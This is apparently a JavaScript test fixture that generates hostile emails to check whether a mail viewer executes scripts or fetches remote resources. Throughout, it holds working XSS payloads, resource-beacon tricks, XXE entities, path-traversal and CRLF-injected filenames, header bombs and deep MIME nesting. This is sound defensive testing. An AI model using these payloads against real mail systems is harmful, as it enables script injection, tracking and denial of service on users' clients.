// Mails that want something of whoever looks at them: that a script runs, that somebody is asked for something, that a name is looked up.

/** Names that are looked up only by who does what a mail wants; `mark` by the scenario itself. */
export const NAMES = { canary: 'canary.example', mark: 'mark.invalid' };

/** The mails, whole. `port` is that of a server that nobody should ask. */
export function hostile(port) {
  let count = 0;
  /** An address that tells who was asked for what; each has a name of its own, so that a look-up is seen, too. */
  const url = (what) => `http://${what}-${++count}.${NAMES.canary}:${port}/${what}`;
  const near = (what) => `http://127.0.0.1:${port}/${what}`;
  const html = (subject, body, head = '') =>
    letter(subject, 'text/html; charset=utf-8', `<html><head>${head}</head><body>${body}</body></html>`);
  return [
    html(
      'scripts',
      `<script>fetch('${near('script')}');alert(1);top.document.title='owned'</script><script src="${url('src')}"></script><script type="module">import '${near('module')}'</script>`,
    ),
    html(
      'handlers',
      `<img src=x onerror="fetch('${near('error')}')"><body onload="alert(2)"><svg onload="alert(3)"><details open ontoggle="alert(4)">x</details><input autofocus onfocus="alert(5)"><marquee onstart="alert(6)">x</marquee>`,
    ),
    html(
      'refresh',
      'x',
      `<meta http-equiv="refresh" content="0;url=${url('refresh')}"><meta http-equiv="refresh" content="0;url=javascript:alert(7)"><meta http-equiv="Content-Security-Policy" content="default-src *">`,
    ),
    html(
      'links',
      'x',
      ['stylesheet', 'preload', 'prefetch', 'modulepreload', 'preconnect', 'dns-prefetch', 'prerender', 'manifest', 'icon', 'pingback']
        .map((rel) => `<link rel="${rel}" as="image" href="${url(rel)}">`)
        .join(''),
    ),
    html('base', '<img src="relative.png"><a href="x">x</a>', `<base href="${url('base')}">`),
    html(
      'styles',
      `<div style="background:url(${url('inline')})">x</div><p style="list-style-image:url(${near('list')})">x</p>`,
      `<style>@import '${url('import')}';@font-face{font-family:x;src:url(${url('font')})}body{font-family:x;background:url(${near('background')});cursor:url(${near('cursor')}),auto}a::after{content:url(${near('content')})}</style>`,
    ),
    html(
      'media',
      `<img src="${url('img')}"><img srcset="${near('srcset')} 2x"><picture><source srcset="${near('picture')}"><img></picture><video src="${url('video')}" poster="${near('poster')}" autoplay></video><audio src="${near('audio')}" autoplay></audio><track src="${near('track')}"><body background="${near('body')}"><table background="${near('table')}"><td>x</td></table><input type="image" src="${near('input')}">`,
    ),
    html(
      'frames',
      `<iframe src="${url('iframe')}"></iframe><iframe srcdoc="<script>alert(8)</script><img src='${url('srcdoc')}'>"></iframe><object data="${url('object')}"></object><embed src="${url('embed')}"><IFRAME\tsrc="${url('upper')}"></IFRAME><iframe/src="${url('slash')}"></iframe><frameset><frame src="${url('frame')}"></frameset><portal src="${url('portal')}"></portal><fencedframe src="${url('fenced')}"></fencedframe>`,
    ),
    html(
      'own site',
      `<img src="/api/mails"><img src="/api/info"><iframe src="/"></iframe><form action="/api/mails" method="post"><input name="x"></form><script src="/app.js"></script><link rel="stylesheet" href="/style.css">`,
    ),
    html(
      'forms',
      `<form id="f" action="${url('form')}" method="post"><input name="x" value="1"><button autofocus>x</button></form><script>document.forms[0].submit()</script><isindex action="${near('isindex')}">`,
    ),
    html(
      'svg',
      `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(9)</script><image href="${url('svg-image')}"/><use href="${near('use')}#x"/><foreignObject><iframe src="${near('foreign')}"></iframe></foreignObject><animate attributeName="href" values="javascript:alert(10)"/><style>@import '${near('svg-import')}'</style></svg><math><mtext><img src="${near('math')}"></mtext></math>`,
    ),
    html(
      'out of its frame',
      `<a href="javascript:alert(11)" target="_top">x</a></iframe></div></article><script>alert(12)</script><!--<img src="--><img src=x onerror=alert(13)//">`,
    ),
    html(
      'speculation',
      'x',
      `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${url('speculation')}"]}],"prerender":[{"source":"list","urls":["${near('prerender')}"]}]}</script>`,
    ),
    html(
      'events of attribution',
      `<a ping="${near('ping')}" href="#x" attributionsrc="${near('attribution')}">x</a><img attributionsrc="${near('attribution-image')}" src="data:,">`,
    ),
    html('eight megabytes', `<p>${'long '.repeat(1_600_000)}</p><img src="${near('late')}">`),
    letter(
      'names of files',
      'multipart/mixed; boundary=b',
      parts([
        [
          'text/html; name="x.html"',
          'Content-Disposition: attachment; filename="../../../etc/passwd.html"',
          `<script>alert(14)</script><img src="${near('attached')}">`,
        ],
        [
          'image/svg+xml',
          `Content-Disposition: inline; filename="<img src=x onerror=alert(15)>.svg"\r\nContent-ID: <v@x>`,
          `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(16)"><image href="${near('svg-file')}"/></svg>`,
        ],
        [
          'application/xhtml+xml',
          "Content-Disposition: attachment; filename*=UTF-8''%0d%0aSet-Cookie%3a%20x=1%3b%22.exe",
          '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(17)</script></html>',
        ],
      ]),
    ),
    letter(
      'images of its own',
      'multipart/related; boundary=b',
      parts([
        ['text/html', 'X-A: 1', '<img src="cid:v@x"><img src="cid:h@x"><object data="cid:v@x"></object><iframe src="cid:h@x"></iframe>'],
        [
          'image/svg+xml',
          'Content-ID: <v@x>',
          `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(18)</script><image href="${near('cid-svg')}"/></svg>`,
        ],
        ['text/html', 'Content-ID: <h@x>', `<script>alert(19)</script><img src="${near('cid-html')}">`],
      ]),
    ),
    [
      `From: "<script>alert(20)</script>" <eve@evil.example>`,
      `To: <bob@mx.example>`,
      `Subject: </title><script>alert(21)</script><img src=x onerror=alert(22)> ${'\u202e'}txt.exe`,
      ...Array.from({ length: 900 }, (_, i) => `X-Bomb-${i}: <img src=x onerror=alert(23)> ${'x'.repeat(600)}`),
      `Received: from <script>alert(24)</script> by x; Sat, 28 Nov 2026 10:00:00 +0000`,
      '',
      `text <script>alert(25)</script> ${near('text')} javascript:alert(26)`,
      '',
    ].join('\r\n'),
    letter(
      'deep',
      'multipart/mixed; boundary=b0',
      Array.from({ length: 200 }, (_, i) => `--b${i}\r\nContent-Type: multipart/mixed; boundary=b${i + 1}\r\n\r\n`).join(''),
    ),
    letter(
      'xml',
      'application/xml',
      `<?xml version="1.0"?><?xml-stylesheet href="${near('xsl')}" type="text/xsl"?><!DOCTYPE x [<!ENTITY e SYSTEM "${near('entity')}">]><x>&e;</x>`,
    ),
  ];
}

function letter(subject, type, body) {
  return [
    `From: Eve <eve@evil.example>`,
    'To: <bob@mx.example>',
    `Subject: ${subject}`,
    'MIME-Version: 1.0',
    `Content-Type: ${type}`,
    '',
    wrapped(body),
    '',
  ].join('\r\n');
}

/** RFC 5321 4.5.3.1.6: no line is longer than 1,000 octets; a blank is where HTML may be broken. */
function wrapped(text) {
  return text.replaceAll(/([^\n]{1,800}) /g, '$1 \r\n');
}

function parts(some) {
  return `${some.map(([type, fields, content]) => `--b\r\nContent-Type: ${type}\r\n${fields}\r\n\r\n${content}\r\n`).join('')}--b--`;
}
